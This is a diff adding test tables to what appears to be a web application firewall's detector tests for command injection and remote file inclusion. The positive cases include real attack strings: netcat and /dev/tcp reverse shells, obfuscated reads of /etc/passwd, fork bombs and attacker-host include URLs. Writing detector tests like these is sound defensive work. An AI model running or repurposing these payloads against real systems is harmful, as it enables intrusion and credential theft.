@@ -201,3 +201,52 @@ describe('protocol (request)', () => {
     assert.deepEqual(detectProtocolRequest(head('POST', [['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json; charset=utf-8'], ['range', 'bytes=0-99']], true), 1), []);
   });
 });
+
+table('rce: shell forms without a plain command line', detectCommand, [
+  ['~+', 'rce.shell-syntax'], ['~-', 'rce.shell-syntax'], ['~+5', 'rce.shell-syntax'], ['cd ~1/x', 'rce.shell-syntax'],
+  [';\n.shell nc 10.10.10.1 6666 -e sh', 'rce.shell-syntax'], ['1;.system id', 'rce.shell-syntax'], [';\n.databases', 'rce.shell-syntax'], ['1;."shell whoami', 'rce.shell-syntax'],
+  ['alias a=b', 'rce.shell-syntax'], ['alias +m a=b', 'rce.shell-syntax'], ['alias +g+ a=b', 'rce.shell-syntax'], ["alias ..='cd ..'", 'rce.shell-syntax'], ['alias eennvv=env&eennvv whoami', 'rce.shell-syntax'],
+  ['$SHELL -c "echo hi"', 'rce.shell-syntax'], ['${SHELL} -c "echo hi"', 'rce.shell-syntax'],
+  ['bin/visudo', 'rce.unix-command'], ['/bin/ab', 'rce.unix-command'], ['x=1;/usr/local/bin/foo -x', 'rce.unix-command'],
+  ['\\ls', 'rce.unix-command'], ["'c'url localhost", 'rce.unix-command'], ['""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""', 'rce.unix-command'],
+  '{l,-lh}s', 'c{a,oun}t', '{,ifconfig,eth0}', '{,echo,#test}', '{,cd,/etc,}', '{id,}', "{,$'whoami',}", '{/?s?/?i?/c?t,}', '{n$u\\c$u,-nlvp,777}',
+  'www.google.com;/bin/ca?+/et*/passwd', 'www.google.com;c$@at+/et$@c/pas$@swd', 'cat+/et*/*wd', ';+cat+/e\'t\'*/pa\'?s\'wd', 'x;wh??mi',
+  'c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11',
+  'a=/etc&&b=/passwd&&c=cat&&$c $a$b', 'd=/dev&&(sh)0>$d/tcp/51.15.142.164/777', 'a=nc&&$a -nlvp 555',
+  ';rmt --version', ';cpulimit -l 100 -f whoami', '&aptitude', 'pi>()ng 127.0.0.1', "'cscli' alerts list", '"time" who',
+  'echo "foo;whxam"i | tr x o | sh #"', 'f(){ f & f; };f', 'test() { test | test & } test',
+  ['x\r\nEHLO test.com', 'rce.mail-injection'], ['x\r\nTOP 1 2', 'rce.mail-injection'], ['x\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891', 'rce.mail-injection'],
+], [
+  '~0', '~5 minutes', 'about ~20 people', 'approx. ~-5 degrees', 'see ~/notes', 'x~y',
+  'the .shell file', 'end of line.\n.shell', 'a.system', 'version 1.2;.3', 'file.sh',
+  'an alias for john', 'alias: Bob', 'alias', 'shell -c', 'the $shell variable',
+  'bin/data.json', 'recycle bin/old', 'the trash bin/can', 'c++', 'a+b', 'g++', '1+1=2', 'notepad++',
+  "O'Keefe's", "it's 'id' not 'ID'", "''that's the joke''.jpeg", 'That\'s two "O"s in goose', 'Size: 8"x11"',
+  '{id,name}', '{cat,dog}', '{"a":1,"b":2}', '{red,green,blue}', 'a {b,c} d', '(s**t)', 'who?', 'c*', '(f*ck)',
+  'x=1&y=2', 'name=$name', 'price=$5', 'function f(){ return f(n-1) | 1 }', 'f(){ return 1 }',
+  'x\nhelo world', 'line\ntop of the page',
+]);
+
+table('rfi: include names', (v, pl, info) => detectRfi(v, pl, info, 'file', 'api.example.com'), [
+  ['https://evil.example/shell.txt', 'rfi.include-name'],
+  ['http://foo.bar', 'rfi.include-name'],
+  ['https://evil.example/@x', 'rfi.include-name'],
+], ['https://www.example.com/logo.png', 'https://cdn.example.com/a.txt', 'https://example.com/x', 'report.pdf', 'see http://foo.bar for details']);
+
+table('rfi: include names, request to an IP address', (v, pl, info) => detectRfi(v, pl, info, 'template', '10.0.0.1'), [
+  ['http://192.168.0.1/t.html', 'rfi.include-name'],
+], ['http://10.0.0.1/t.html']);
+
+table('rfi: authority confusion', (v, pl, info) => detectRfi(v, pl, info, 'x', 'api.example.com'), [
+  ['http://example.com/@evil.com/', 'rfi.authority-confusion'],
+  ['http://example.com%2f@evil.com/', 'rfi.authority-confusion'],
+  ['http://example.com/:foo@bar@evil.com/', 'rfi.authority-confusion'],
+  ['http://example.com@evil.com/', 'rfi.authority-confusion'],
+], ['https://medium.com/@user/post', 'https://mastodon.social/@gargron@mastodon.social', 'https://john.doe@host.example/', 'https://user:pass@host.example/', 'https://www.npmjs.com/package/@types/node', 'https://evil.example/shell.txt']);
+
+table('rfi: page names need a script or text file', (v, pl, info) => detectRfi(v, pl, info, 'page', 'api.example.com'), [
+  ['https://evil.example/shell.txt', 'rfi.include-name'],
+  ['http://evil.example/x.php', 'rfi.include-name'],
+], ['https://other.example/about', 'https://github.com/org/repo', 'https://www.example.com/x.php']);
+
+table('rfi: other names keep URLs at paranoia 1', (v, pl, info) => detectRfi(v, pl, info, 'website', 'api.example.com'), [], ['https://evil.example/shell.txt', 'http://foo.bar']);
